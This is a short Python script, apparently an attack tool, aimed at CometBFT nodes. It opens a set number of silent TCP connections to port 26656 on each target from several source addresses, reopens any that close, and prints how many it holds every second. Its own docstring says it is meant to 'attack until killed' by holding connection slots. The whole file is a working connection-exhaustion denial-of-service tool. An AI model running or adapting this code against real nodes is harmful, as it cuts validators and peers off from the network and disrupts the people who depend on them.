"""A stranger at CometBFT's port: opens connections, says nothing, and opens them again when they are closed.

    python strangers.py CONNECTIONS SOURCES TARGETS

SOURCES and TARGETS are addresses with commas between them. Each target gets so many CONNECTIONS, from all sources
in turn. Prints how many it holds once a second.
"""

import selectors
import socket
import sys
import time

PORT = 26656
PAUSE_S = 0.02
"""Between rounds: this is about holding places, not about filling the machine."""


def main(count: int, sources: list[str], targets: list[str]) -> None:
    """Attack until killed."""
    waiting = selectors.DefaultSelector()
    wanted = [(sources[number % len(sources)], target) for target in targets for number in range(count)]
    held: set[int] = set()
    for number in range(len(wanted)):
        begin(waiting, wanted, number)
    told_s = time.monotonic()
    while True:
        for key, events in waiting.select(timeout=0.2):
            number, sock = key.data, key.fileobj
            assert isinstance(sock, socket.socket)
            if events & selectors.EVENT_WRITE and alive(sock):
                held.add(number)
                waiting.modify(sock, selectors.EVENT_READ, number)
            elif ended(sock):
                waiting.unregister(sock)
                sock.close()
                held.discard(number)
                begin(waiting, wanted, number)
        if time.monotonic() - told_s > 1:
            print(len(held), flush=True)
            told_s = time.monotonic()
        time.sleep(PAUSE_S)


def begin(waiting: selectors.BaseSelector, wanted: list[tuple[str, str]], number: int) -> None:
    """Begin to connect."""
    source, target = wanted[number]
    sock = socket.socket()
    sock.setblocking(False)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((source, 0))
    sock.connect_ex((target, PORT))
    waiting.register(sock, selectors.EVENT_WRITE | selectors.EVENT_READ, number)


def alive(sock: socket.socket) -> bool:
    """Whether the connection is made."""
    return sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0


def ended(sock: socket.socket) -> bool:
    """Read what comes; whether that was the end."""
    try:
        return not sock.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        return True


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2].split(","), sys.argv[3].split(","))
